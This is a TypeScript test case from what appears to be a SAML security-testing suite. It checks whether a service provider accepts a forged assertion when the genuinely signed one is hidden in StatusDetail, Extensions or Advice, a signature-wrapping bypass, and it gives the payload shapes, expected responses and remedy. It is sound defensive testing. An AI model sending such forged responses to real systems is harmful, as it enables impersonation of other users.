import { el, type XmlElement } from "../../../../protocols/saml/index.ts";
import { samlAttack } from "../../saml-attack.ts";
import { takeApart, withAssertions } from "./forging.ts";

/** The response with the signed assertion hidden in one place, and a forged one where an assertion belongs. */
const hiddenIn = (place: string, response: XmlElement, signed: XmlElement, forged: XmlElement): XmlElement => {
  if (place === "Advice") return withAssertions(response, [{ ...forged, children: [...forged.children, el("saml:Advice", {}, signed)] }]);
  const around = withAssertions(response, [forged]);
  const [issuer, ...rest] = around.children;
  const hidden = place === "Extensions" ? el("samlp:Extensions", {}, signed) : el("samlp:StatusDetail", {}, signed);
  if (place === "Extensions") return { ...around, children: [issuer ?? "", hidden, ...rest] };
  return { ...around, children: around.children.map((child) => (typeof child === "object" && "name" in child && child.name === "samlp:Status" ? { ...child, children: [...child.children, hidden] } : child)) };
};

export const hiddenOriginal = samlAttack({
  id: "SP-17", slug: "hidden-original", gate: "blocks", target: "victim", title: "Refuses a signed assertion in a place where none belongs",
  spec: { doc: "saml-core-2.0-os", section: "5.4.2", level: "MUST" },
  asks: "Does the app insist that the assertion it reads is the one that was signed?",
  why: "Hidden in a place that nobody reads, the signed assertion vouches for a forged one in the usual place.",
  remedy: "Verify the signature of the very element that you read; refuse assertions in Extensions, StatusDetail and Advice.",
  example: {
    sent: `
      <samlp:Status><samlp:StatusCode Value="…:Success"/>
        <samlp:StatusDetail>
          <saml:Assertion ID="_a1">… signed, ana@corp.example …</saml:Assertion>
        </samlp:StatusDetail>
      </samlp:Status>
      <saml:Assertion ID="_f1">… vera@corp.example, unsigned …</saml:Assertion>`,
    right: `
      ← 403 "Response/Assertion is unsigned"
      # The signed one is not where an assertion belongs, so it vouches for nothing.
      # The same holds in Extensions and Advice.`,
    wrong: `
      ← 302 /dashboard, signed in as vera@corp.example
      # One signed assertion was found somewhere, one assertion was read elsewhere.`,
  },
  send: ({ people }) => ["StatusDetail", "Extensions", "Advice"].map((place) => ({
    name: `the signed assertion hidden in ${place}, a forged one in its place`,
    change: {
      sign: "assertion",
      tree(signed, tools) {
        const { response, assertion } = takeApart(signed);
        return hiddenIn(place, response, assertion, tools.assertionAbout(people.victim));
      },
    },
  })),
});
